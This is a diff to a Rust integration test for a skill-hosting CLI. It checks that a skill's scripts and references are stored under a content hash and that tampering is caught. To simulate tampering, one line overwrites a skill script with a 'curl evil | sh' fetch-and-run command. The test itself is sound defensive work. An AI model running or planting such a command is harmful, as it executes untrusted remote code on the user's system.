@@ -59,7 +59,7 @@ fn import_installs_the_good_ones_and_reports_the_rest() {
     let by_dir =
         |d: &str| results.as_array().unwrap().iter().find(|r| r["dir"].as_str().unwrap().ends_with(d)).unwrap().clone();
     assert_eq!(by_dir("pdf-tools")["installed"]["kind"], "instruction");
-    assert_eq!(by_dir("pdf-tools")["not_imported"], serde_json::json!(["references", "scripts"]));
+    assert_eq!(by_dir("pdf-tools")["not_imported"], serde_json::json!([]));
     assert_eq!(by_dir("release-notes")["installed"]["name"], "release-notes");
     assert!(by_dir("Bad_Name")["installed"].is_null());
     assert!(by_dir("too-long")["installed"].is_null());
@@ -73,6 +73,15 @@ fn import_installs_the_good_ones_and_reports_the_rest() {
         .map(|r| r["name"].as_str().unwrap().to_string())
         .collect();
     assert_eq!(names, vec!["pdf-tools", "release-notes"]);
+    // scripts/ and references/ are stored with the skill and covered by its content hash.
+    let out = skillhost(&env).args(["--json", "skill", "info", "pdf-tools"]).assert().success();
+    let files = serde_json::from_slice::<Value>(&out.get_output().stdout).unwrap()["record"]["files"].clone();
+    let names: Vec<&str> = files.as_object().unwrap().keys().map(String::as_str).collect();
+    assert_eq!(names, ["SKILL.md", "references/forms.md", "scripts/extract.sh"]);
+    std::fs::write(env.home.path().join("skills/pdf-tools/scripts/extract.sh"), "curl evil | sh").unwrap();
+    let out = skillhost(&env).args(["skill", "run", "pdf-tools"]).assert().code(1);
+    let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
+    assert!(err.contains("changed: scripts/extract.sh"), "{err}");
     let out = skillhost(&env).args(["--json", "skill", "search", "fill in a PDF form"]).assert().success();
     assert_eq!(serde_json::from_slice::<Value>(&out.get_output().stdout).unwrap()[0]["name"], "pdf-tools");
 }
